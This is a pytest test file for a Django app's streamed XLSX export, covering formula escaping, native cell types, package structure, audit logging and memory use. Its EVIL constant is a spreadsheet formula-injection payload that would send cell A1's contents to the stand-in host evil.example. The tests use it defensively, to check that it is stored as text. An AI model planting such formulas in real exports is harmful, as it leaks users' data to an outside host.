"""people.exporting: the streamed XLSX writer (a valid package openpyxl reads back, escaping,
native types, counts, constant memory) and the queryset-to-FileResponse export (one query, audit
line, attachment)."""

import datetime
import tempfile
import tracemalloc
import zipfile
from decimal import Decimal
from io import BytesIO
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.http import FileResponse
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from people import exporting
from people.exporting import queryset_rows, write_xlsx, xlsx_export_response
from people.models import Department
from people.reports import XLSX_CONTENT_TYPE
from people.tenancy import tenant_context
from tests.people.factories import DepartmentFactory

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read(file) -> list[tuple]:
    return list(load_workbook(BytesIO(file.read())).active.iter_rows(values_only=True))


def test_text_that_starts_like_a_formula_is_written_as_text():
    rows = [[EVIL, "+49 30 1234", "-1+2", "@SUM(A1)", "plain", "a=b"]]
    workbook = load_workbook(BytesIO(write_xlsx(rows, list("ABCDEF"), sheet_title="S").read()))
    cells = list(workbook.active.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells] == rows[0]
    assert all(cell.data_type == "s" for cell in cells)  # never "f" (a formula)
    assert [cell.quotePrefix for cell in cells[:4]] == [True] * 4
    assert not cells[4].quotePrefix


def test_dates_numbers_and_decimals_stay_native_cells():
    moment = timezone.make_aware(datetime.datetime(2026, 3, 5, 14, 30))
    row = [datetime.date(2026, 3, 5), moment, Decimal("1234.50"), 7, 2.5, None, True]
    [header, values] = read(write_xlsx([row], list("ABCDEFG"), sheet_title="Types"))
    assert header == tuple("ABCDEFG")
    day, when, amount, count, ratio, empty, flag = values
    assert isinstance(day, datetime.date) and day.date() == datetime.date(2026, 3, 5)
    # Excel has no time zones: an aware datetime is written as the local wall-clock time.
    assert when == timezone.localtime(moment).replace(tzinfo=None)
    assert amount == 1234.5 and count == 7 and ratio == 2.5 and empty is None and flag is True


def test_row_and_column_counts_headers_and_sheet_title():
    rows = ([i, f"name {i}", i * 2] for i in range(250))  # any iterable, consumed once
    workbook = load_workbook(BytesIO(write_xlsx(rows, ["N", "Name", "Double"], sheet_title="x" * 40).read()))
    sheet = workbook.active
    assert sheet.title == "x" * 31  # Excel's limit
    assert (sheet.max_row, sheet.max_column) == (251, 3)
    assert sheet["A1"].font.bold
    assert [c.value for c in sheet[251]] == [249, "name 249", 498]


def test_an_empty_export_has_its_header_row_only():
    assert read(write_xlsx([], ["A", "B"], sheet_title="Empty")) == [("A", "B")]


def test_writes_into_a_given_file():
    output = BytesIO()
    assert write_xlsx([[1]], ["A"], sheet_title="S", output=output) is output
    assert output.tell() == 0 and output.getvalue()[:2] == b"PK"


@pytest.mark.django_db
def test_queryset_rows_fetch_each_lookup_once_and_convert(tenant_a):
    with tenant_context(tenant_a):
        DepartmentFactory(name="Sales", cost_center="CC1")
        columns = [("Name", "name"), ("Upper", "name", str.upper), ("Cost center", "cost_center")]
        with CaptureQueriesContext(connection) as captured:
            rows = list(queryset_rows(Department.objects.filter(name="Sales"), columns))
    assert rows == [["Sales", "SALES", "CC1"]]
    assert len(captured) == 1


@pytest.mark.django_db
def test_export_response_is_an_audited_attachment_of_the_scoped_rows(tenant_a, tenant_b, user_a, caplog):
    with tenant_context(tenant_b):
        DepartmentFactory(name="B only")
    request = RequestFactory().get("/")
    request.user, request.tenant = user_a, tenant_a
    with tenant_context(tenant_a):
        DepartmentFactory(name=EVIL, cost_center="CC9")
        DepartmentFactory(name="Ops", cost_center="CC2")
        with caplog.at_level("INFO", logger="audit"):
            response = xlsx_export_response(
                Department.objects.order_by("cost_center"),
                [("Department", "name"), ("Cost center", "cost_center")],
                filename="departments",
                request=request,
            )
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="departments.xlsx"'
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert sheet.title == "Departments"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Department", "Cost center"],
        ["Ops", "CC2"],
        [EVIL, "CC9"],
    ]
    assert sheet["A3"].data_type == "s"
    record = next(r for r in caplog.records if r.name == "audit")
    assert record.getMessage() == "admin export"
    assert (record.user_id, record.tenant_id, record.model, record.rows) == (
        user_a.pk,
        tenant_a.pk,
        "people.Department",
        2,
    )


# --- the package and the cells, as openpyxl reads them back ---------------------------------------
MOMENT = datetime.datetime(2026, 3, 5, 14, 30, 15)
TYPED_ROW = [
    "plain",
    "Zoë Ærøskøbing 東京 😀",  # unicode, outside the BMP too
    "a < b & c > d \"q\" 'a'",  # XML's special characters
    "  padded\t",  # leading / trailing white space kept
    "line one\nline two\r\nthree",
    "bell\x07 nul\x00 vt\x0b esc\x1b \ufffe end",  # characters XML 1.0 cannot hold: dropped
    "=SUM(A1:A2)",
    "-5",
    42,
    -(2**40),
    Decimal("1234.50"),
    2.25,
    True,
    False,
    None,
    "",
    datetime.date(2026, 3, 5),
    MOMENT,
    datetime.date(1900, 1, 15),  # before Excel's phantom 29 Feb 1900
    datetime.time(6, 30),
    gettext_lazy("Lazy label"),
]
EXPECTED = (
    "plain",
    "Zoë Ærøskøbing 東京 😀",
    "a < b & c > d \"q\" 'a'",
    "  padded\t",
    "line one\nline two\r\nthree",
    "bell nul vt esc  end",
    "=SUM(A1:A2)",
    "-5",
    42,
    -(2**40),
    1234.5,
    2.25,
    True,
    False,
    None,
    None,
    datetime.datetime(2026, 3, 5),
    MOMENT,
    datetime.datetime(1900, 1, 15),
    datetime.time(6, 30),
    "Lazy label",
)
HEADERS = [f"Column {i}" for i in range(len(TYPED_ROW))]


@pytest.mark.parametrize("read_only", [False, True])
def test_every_type_reads_back_with_its_value_and_type(read_only):
    workbook = load_workbook(write_xlsx([TYPED_ROW], HEADERS, sheet_title="Types"), read_only=read_only)
    header, values = list(workbook["Types"].iter_rows(values_only=True))
    assert header == tuple(HEADERS)
    assert values == EXPECTED
    assert [type(value) for value in values] == [type(value) for value in EXPECTED]


def test_cell_types_styles_and_escaping_as_stored():
    sheet = load_workbook(write_xlsx([TYPED_ROW], HEADERS, sheet_title="Types")).active
    cells = {cell.column - 1: cell for cell in sheet[2]}
    texts = [0, 1, 2, 3, 4, 5, 6, 7, 20]
    assert all(cells[i].data_type == "s" for i in texts)  # inline strings, never formulae
    assert [i for i in texts if cells[i].quotePrefix] == [6, 7]  # "=SUM(...)", "-5"
    assert [cells[i].data_type for i in (8, 9, 10, 11)] == ["n"] * 4
    assert [cells[i].data_type for i in (12, 13)] == ["b", "b"]
    assert cells[16].number_format == "yyyy-mm-dd" and cells[16].is_date
    assert cells[17].number_format == "yyyy-mm-dd h:mm:ss" and cells[17].is_date
    assert cells[14].value is None and cells[15].value is None
    sheet_xml = zipfile.ZipFile(write_xlsx([TYPED_ROW], HEADERS, sheet_title="T")).read(
        "xl/worksheets/sheet1.xml"
    )
    assert b'r="N2"' in sheet_xml and b'r="O2"' not in sheet_xml and b'r="P2"' not in sheet_xml  # no cell


def test_aware_datetimes_are_written_in_local_time_to_the_millisecond():
    moment = timezone.make_aware(datetime.datetime(2026, 7, 1, 21, 59, 58, 123000), datetime.UTC)
    with timezone.override("Europe/Berlin"):  # UTC+2 in summer
        [_, (value,)] = read(write_xlsx([[moment]], ["At"], sheet_title="S"))
    assert value == datetime.datetime(2026, 7, 1, 23, 59, 58, 123000)


def test_header_is_bold_and_frozen_and_columns_are_sized():
    rows = [["x" * 30, 1, MOMENT], ["y", 2, None]]
    sheet = load_workbook(write_xlsx(rows, ["Name", "N", "When"], sheet_title="S")).active
    assert [cell.font.bold for cell in sheet[1]] == [True] * 3
    assert not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths[0] == 32 and widths[1] == exporting.MIN_WIDTH and widths[2] >= 19
    sheet = load_workbook(write_xlsx(rows, ["Name", "N", "When"], sheet_title="S", widths=[5, 6, 7])).active
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [5, 6, 7]


def test_the_package_is_a_deflated_zip_of_well_formed_parts():
    package = zipfile.ZipFile(write_xlsx([["a", 1]], ["A", "B"], sheet_title="S"))
    assert package.testzip() is None
    assert package.namelist() == [
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    ]
    assert {info.compress_type for info in package.infolist()} == {zipfile.ZIP_DEFLATED}
    for name in package.namelist():
        ElementTree.fromstring(package.read(name))  # raises on anything malformed


def test_sheet_titles_excel_refuses_are_made_acceptable():
    workbook = load_workbook(write_xlsx([], ["A"], sheet_title="Q1/Q2 [draft]: a*b?"))
    assert workbook.sheetnames == ["Q1-Q2 -draft-- a-b-"]
    assert load_workbook(write_xlsx([], ["A"], sheet_title="R&D <team>")).sheetnames == ["R&D <team>"]


@pytest.mark.parametrize("read_only", [False, True])
def test_rows_ending_in_empty_cells_read_back_whole(read_only):
    rows = [["a", None, None], ["b", 1, ""], ["c", 2, 3]]
    sheet = load_workbook(write_xlsx(rows, ["A", "B", "C"], sheet_title="S"), read_only=read_only).active
    assert list(sheet.iter_rows(values_only=True))[1:] == [("a", None, None), ("b", 1, None), ("c", 2, 3)]


def test_rows_longer_than_the_header_keep_their_cells():
    rows = [list(range(30))]
    assert read(write_xlsx(rows, ["A", "B"], sheet_title="S"))[1] == tuple(range(30))


def test_many_rows_read_back_in_read_only_mode():
    rows = (
        [i, f"name {i}", datetime.date(2026, 1, 1) + datetime.timedelta(days=i % 365)] for i in range(5000)
    )
    sheet = load_workbook(write_xlsx(rows, ["N", "Name", "Day"], sheet_title="S"), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 5001
    assert values[-1] == (
        4999,
        "name 4999",
        datetime.datetime(2026, 1, 1) + datetime.timedelta(days=4999 % 365),
    )


# --- streaming: rows are written as they come, memory stays flat --------------------------------
def big_rows(count, seen=None, output=None):
    for i in range(count):
        if seen is not None and i % 5000 == 0:
            seen.append(output.tell())  # how much of the file was written when row i was asked for
        yield [
            f"JOB-{i:06d}",
            "Senior Data Engineer",
            f"First{i}",
            f"Last{i}",
            f"person{i}@mail.example",
            f"+49 30 {i:07d}",
            "LinkedIn",
            "Technical assessment",
            MOMENT,
            MOMENT,
            i % 90,
            None,
        ]


def test_the_writer_writes_rows_as_they_come():
    output = BytesIO()
    seen = []
    write_xlsx(big_rows(30_000, seen, output), [f"H{i}" for i in range(12)], sheet_title="S", output=output)
    assert len(seen) == 6
    # Past the first flush the file grows while rows are still being read: the writer holds at
    # most FLUSH_ROWS rows of XML, never the whole sheet.
    assert seen[1] > 0 and seen == sorted(seen) and len(set(seen[1:])) == len(seen) - 1
    assert len(read(output)) == 30_001


def test_memory_stays_flat_whatever_the_row_count():
    def peak(count):
        with tempfile.TemporaryFile() as output:
            tracemalloc.start()
            try:
                write_xlsx(big_rows(count), [f"H{i}" for i in range(12)], sheet_title="S", output=output)
                return tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()

    small, large = peak(2_000), peak(20_000)  # the large sheet's XML is some 15 MB
    assert large < 6 * 1024 * 1024
    assert large < small * 1.5


@pytest.mark.django_db
def test_a_large_export_response_streams_a_file_spooled_to_disk(tenant_a, user_a, monkeypatch):
    monkeypatch.setattr(exporting, "SPOOL_MAX_BYTES", 4096)
    request = RequestFactory().get("/")
    request.user, request.tenant = user_a, tenant_a
    with tenant_context(tenant_a):
        Department.objects.bulk_create(
            [Department(name=f"Department {i}", cost_center=f"CC{i}") for i in range(2000)]
        )
        response = xlsx_export_response(
            Department.objects.order_by("pk"), [("Name", "name")], filename="d", request=request
        )
    assert isinstance(response, FileResponse) and response.streaming
    assert response.file_to_stream._rolled  # past SPOOL_MAX_BYTES the workbook is on disk
    chunks = list(response.streaming_content)
    assert len(chunks) > 1  # read back in blocks
    sheet = load_workbook(BytesIO(b"".join(chunks)), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows()) == 2001
